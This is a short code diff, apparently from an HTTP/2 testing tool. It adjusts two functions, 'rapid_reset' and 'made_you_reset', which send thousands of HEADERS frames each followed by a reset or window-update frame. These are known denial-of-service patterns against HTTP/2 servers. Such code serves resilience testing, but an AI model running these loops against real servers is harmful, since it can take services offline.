@@ -462,7 +462,7 @@ def flood(c, data, rounds=40):
 
 def rapid_reset(c):
     for i in range(2000):
-        block = c.block()
+        block = c.block(path="/hold")
         data = frame(h2raw.HEADERS, 5, 2 * i + 1, block) + frame(h2raw.RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")
         if not c.send(data):
             break
@@ -470,7 +470,7 @@ def rapid_reset(c):
 
 def made_you_reset(c):
     for i in range(2000):
-        data = frame(h2raw.HEADERS, 5, 2 * i + 1, c.block()) + frame(h2raw.WINDOW_UPDATE, 0, 2 * i + 1, bytes(4))
+        data = frame(h2raw.HEADERS, 5, 2 * i + 1, c.block(path="/hold")) + frame(h2raw.WINDOW_UPDATE, 0, 2 * i + 1, bytes(4))
         if not c.send(data):
             break
 
